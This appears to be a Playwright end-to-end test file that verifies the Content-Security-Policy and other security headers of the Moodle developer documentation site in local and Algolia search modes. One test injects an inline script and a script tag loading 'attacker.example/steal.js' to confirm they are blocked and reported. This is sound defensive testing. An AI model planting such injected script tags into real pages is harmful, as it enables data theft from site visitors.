/**
 * The Content-Security-Policy, in Chromium against the production builds served the way a static
 * host serves them, with the headers of their `_headers` file (tests/e2e/staticServer.ts), in
 * local and in Algolia search mode: every kind of page loads, hydrates, opens search, copies code
 * and works offline without a single violation, and a script slipped into a page's HTML is
 * blocked and reported.
 *
 * Violations are watched twice: in the page (`securitypolicyviolation` events, recorded by a
 * script the test runs before the page's own), and by the reports the browser posts to the
 * server (the `report-uri` it adds to the policy). The browser also logs each violation as a
 * console error, which fails any test (fixtures.ts).
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { algoliaHosts, parsePolicy } from '../../src/plugins/security-headers/utils';
import { standInForAlgolia } from './algoliaStandIn';
import { algoliaBuildDir, algoliaCredentials, buildDir } from './builds';
import { headersOf, violations, watchViolations } from './csp';
import { expect, test, waitForHydration } from './fixtures';
import { cspReportPath, startStaticServer, type RunningServer } from './staticServer';

interface PageType {
  name: string;
  path: string;
  /** The page's main heading, once it has hydrated. */
  heading: string | RegExp;
  status?: number;
  /** The page has code blocks with a copy button. */
  code?: boolean;
}

const pageTypes: PageType[] = [
  { name: 'home page', path: '/', heading: 'Moodle Developer Resources' },
  { name: 'API doc', path: '/docs/apis/core/dml', heading: 'Data manipulation API (DML)', code: true },
  { name: 'page with diagrams', path: '/general/development/process', heading: 'Development process' },
  { name: 'release page', path: '/general/releases/3.9/3.9.18', heading: 'Moodle 3.9.18' },
  { name: 'release notes', path: '/general/releases', heading: 'Release notes' },
  { name: 'tag page', path: '/docs/tags/api', heading: /tagged with "API"/ },
  { name: 'versions page', path: '/versions', heading: 'All documentation versions' },
  { name: 'search page with results', path: '/search?q=peer%20review', heading: 'Search the documentation' },
  { name: 'not-found page', path: '/no-such-page', heading: 'Page Not Found', status: 404 },
  { name: '4.1 page', path: '/docs/4.1/apis/core/dml', heading: 'Data manipulation API (DML)', code: true },
];

/** The Markdown version of a page: text, not a document that runs anything. */
const markdownTwin = '/docs/apis/core/dml.md';

/** Opens a page and checks its headers, and that nothing was blocked before or after hydration. */
async function openChecked(page: Page, server: RunningServer, policy: string, entry: PageType): Promise<void> {
  const response = await page.goto(`${server.url}${entry.path}`);
  expect(response?.status(), entry.path).toBe(entry.status ?? 200);
  expect(response?.headers()['content-security-policy'], entry.path).toBe(`${policy}; report-uri ${cspReportPath}`);
  await waitForHydration(page);
  await expect(page.locator('main h1').first()).toHaveText(entry.heading);
  const seen = await violations(page);
  expect(seen.hydratedAtDomContentLoaded, entry.path).toBe(false);
  expect(seen.beforeHydration, `${entry.path} before hydration`).toEqual([]);
  expect(seen.all, `${entry.path} after hydration`).toEqual([]);
}

/** Opens the search modal, searches, and closes it. */
async function searchFromModal(page: Page, query: string): Promise<void> {
  await page.keyboard.press('Control+k');
  const input = page.locator('.DocSearch-Input');
  await expect(input).toBeFocused();
  await input.fill(query);
  await expect(page.locator('.DocSearch-Hit').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.locator('.DocSearch-Modal')).toHaveCount(0);
}

/** Copies the first code block with its copy button, and checks the clipboard. */
async function copyCode(page: Page): Promise<void> {
  const block = page.locator('main .theme-code-block').first();
  await block.hover();
  await block.getByRole('button', { name: /copy/i }).click();
  // The code, whatever the line breaks the rendered lines add to its text.
  const words = (text: string) => text.replace(/\s+/g, '');
  const code = await block.locator('pre code').innerText();
  expect(words(code).length).toBeGreaterThan(0);
  expect(words(await page.evaluate(() => navigator.clipboard.readText()))).toBe(words(code));
}

/** Waits until the service worker controls the page and has precached the site. */
async function turnOfflineModeOn(page: Page, base: string): Promise<void> {
  await page.goto(`${base}/?offlineMode=true`);
  await waitForHydration(page);
  await page.evaluate(async () => {
    const registration = await navigator.serviceWorker.ready;
    const worker = registration.active;
    if (worker && worker.state !== 'activated') {
      await new Promise<void>((resolve) => {
        worker.addEventListener('statechange', () => {
          if (worker.state === 'activated') {
            resolve();
          }
        });
      });
    }
  });
}

const modes = [
  { mode: 'local', dir: buildDir, query: 'peer review', algolia: false },
  { mode: 'Algolia', dir: algoliaBuildDir, query: 'get_record', algolia: true },
] as const;

for (const { mode, dir, query, algolia } of modes) {
  test.describe(`${mode} search mode`, () => {
    let server: RunningServer;
    let policy: string;

    test.beforeAll(async () => {
      policy = headersOf(dir).get('content-security-policy') ?? '';
      server = await startStaticServer({ dir });
    });

    test.afterAll(async () => {
      await server.close();
    });

    // What the browser says about the headers themselves (an unknown Permissions-Policy
    // feature is only a warning, which the console guard lets through).
    let headerWarnings: string[] = [];

    test.beforeEach(async ({ page }) => {
      server.cspReports.length = 0;
      headerWarnings = [];
      page.on('console', (message) => {
        if (/Permissions-Policy|Content.Security.Policy|Referrer.Policy/i.test(message.text())) {
          headerWarnings.push(`${message.type()}: ${message.text()}`);
        }
      });
      await watchViolations(page);
      if (algolia) {
        await standInForAlgolia(page, server.url);
      }
    });

    test.afterEach(() => {
      expect(server.cspReports, 'violations the browser reported to the server').toEqual([]);
      expect(headerWarnings, 'console messages about the security headers').toEqual([]);
    });

    test.describe(() => {
      test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

      for (const entry of pageTypes) {
        test(`${entry.name}: loads, hydrates, searches${entry.code ? ', copies code' : ''} with nothing blocked`, async ({ page, consoleGuard }) => {
          if (entry.status === 404) {
            consoleGuard.allow(/status of 404/);
          }
          await openChecked(page, server, policy, entry);
          if (entry.path.startsWith('/search')) {
            await expect(page.locator('main ol li').first()).toBeVisible();
          }
          await searchFromModal(page, query);
          if (entry.code) {
            await copyCode(page);
          }
          expect((await violations(page)).all).toEqual([]);
        });
      }
    });

    test('Markdown version of a page: opens as text with the same headers, never sniffed, nothing blocked', async ({ page, consoleGuard }) => {
      // Chromium asks the origin of a plain-text document for /favicon.ico, which the site does
      // not have (its pages name img/favicon.svg).
      consoleGuard.allow(/status of 404/);
      const response = await page.goto(`${server.url}${markdownTwin}`);
      expect(response?.status()).toBe(200);
      expect(response?.headers()['content-type']).toBe('text/markdown; charset=utf-8');
      expect(response?.headers()['content-security-policy']).toBe(`${policy}; report-uri ${cspReportPath}`);
      expect(response?.headers()['x-content-type-options']).toBe('nosniff');
      await expect(page.locator('body')).toContainText('# Data manipulation API (DML)');
      expect((await violations(page)).all).toEqual([]);
    });

    test('every response carries the other security headers of _headers', async ({ request }) => {
      const expected = headersOf(dir);
      const styleSheet = fs.readdirSync(path.join(dir, 'assets/css')).find((file) => file.endsWith('.css'));
      for (const file of ['/', `/assets/css/${styleSheet}`, '/sw.js', '/manifest.json', '/img/logo.svg', '/no-such-file.png']) {
        const response = await request.get(`${server.url}${file}`);
        for (const name of ['x-content-type-options', 'referrer-policy', 'permissions-policy']) {
          expect(response.headers()[name], `${name} of ${file}`).toBe(expected.get(name));
        }
      }
    });

    test('page with diagrams reached from another page: drawn and styled, with nothing blocked', async ({ page }) => {
      await openChecked(page, server, policy, pageTypes[0]);
      // The navbar's "Process" link: the page is rendered by its script, which inserts the
      // drawings and their style sheets (allowed by the hashes of the sheets as the script has them).
      await page.locator('nav.navbar').getByRole('link', { name: 'Process', exact: true }).click();
      await expect(page).toHaveURL(`${server.url}/general/development/process`);
      const drawing = page.locator('.docusaurus-mermaid-container svg').filter({ visible: true }).first();
      await expect(drawing).toBeVisible();
      // Styled by its sheet: Mermaid's font, and a label laid out as a table by a class rule that
      // stands for the style attribute Mermaid gave it.
      await expect(drawing).toHaveCSS('font-family', /trebuchet ms/);
      await expect(drawing.locator('foreignObject div[class*="diagram-style-"]', { hasText: 'branches and testing instructions ready' })).toHaveCSS('display', 'table');
      expect((await violations(page)).all).toEqual([]);
    });

    // The local build's pages are opened offline under its policy by offline.spec.ts, which
    // precaches the site for its own tests already (precaching takes minutes).
    if (algolia) {
      test('with offline mode on, every kind of page opens from the worker with its policy, nothing blocked', async ({ context, page, consoleGuard }) => {
        // The worker precaches the whole site first.
        test.setTimeout(300_000);
        // A server of its own: the worker belongs to one origin, and goes with the test.
        const offline = await startStaticServer({ dir });
        try {
          await turnOfflineModeOn(page, offline.url);
          await context.setOffline(true);
          // Offline, Algolia cannot answer the search page.
          for (const entry of pageTypes.filter((type) => !type.path.startsWith('/search'))) {
            if (entry.status === 404) {
              consoleGuard.allow(/status of 404/);
            }
            await openChecked(page, offline, policy, entry);
          }
          expect(offline.cspReports).toEqual([]);
        } finally {
          await context.setOffline(false);
          await page.close();
          await offline.close();
        }
      });
    }
  });
}

test.describe('a script slipped into a page', () => {
  test('is blocked before it runs, and reported', async ({ page, consoleGuard }) => {
    consoleGuard.allow(/Content Security Policy/);
    const injected = await startStaticServer({
      dir: buildDir,
      rewriteHtml: (html) => html.replace('</head>', '<script>window.injected = "inline";</script><script src="https://attacker.example/steal.js"></script></head>'),
    });
    const requested: string[] = [];
    await page.route('https://attacker.example/**', async (route) => {
      requested.push(route.request().url());
      await route.fulfill({ contentType: 'text/javascript', body: 'window.injected = "external";' });
    });
    await watchViolations(page);
    try {
      await page.goto(`${injected.url}/docs/apis/core/dml`);
      await waitForHydration(page);
      // The page itself still works: it hydrated, and its own scripts ran.
      await expect(page.locator('main h1').first()).toHaveText('Data manipulation API (DML)');
      expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined();
      expect(requested).toEqual([]);
      const seen = await violations(page);
      expect(seen.beforeHydration).toEqual([expect.stringMatching(/^script-src-elem blocked inline \(window\.injected = "inline";\)/), expect.stringMatching(/^script-src-elem blocked https:\/\/attacker\.example\/steal\.js/)]);
      await expect.poll(() => injected.cspReports.map((report) => `${report.effectiveDirective} ${report.blockedUri} ${report.sample ?? ''}`.trim()).sort()).toEqual(['script-src-elem https://attacker.example/steal.js', 'script-src-elem inline window.injected = "inline";']);
      expect(injected.cspReports.every((report) => report.documentUri === `${injected.url}/docs/apis/core/dml`)).toBe(true);
    } finally {
      await page.close();
      await injected.close();
    }
  });
});

test('the Algolia build’s policy is the local one plus Algolia’s search hosts', () => {
  const local = parsePolicy(headersOf(buildDir).get('content-security-policy') ?? '');
  const algolia = parsePolicy(headersOf(algoliaBuildDir).get('content-security-policy') ?? '');
  expect(algolia.get('connect-src')).toEqual([...(local.get('connect-src') ?? []), ...algoliaHosts(algoliaCredentials.ALGOLIA_APP_ID)]);
  expect([...algolia.keys()]).toEqual([...local.keys()]);
  for (const [directive, values] of local) {
    if (directive !== 'connect-src') {
      expect(algolia.get(directive), directive).toEqual(values);
    }
  }
});
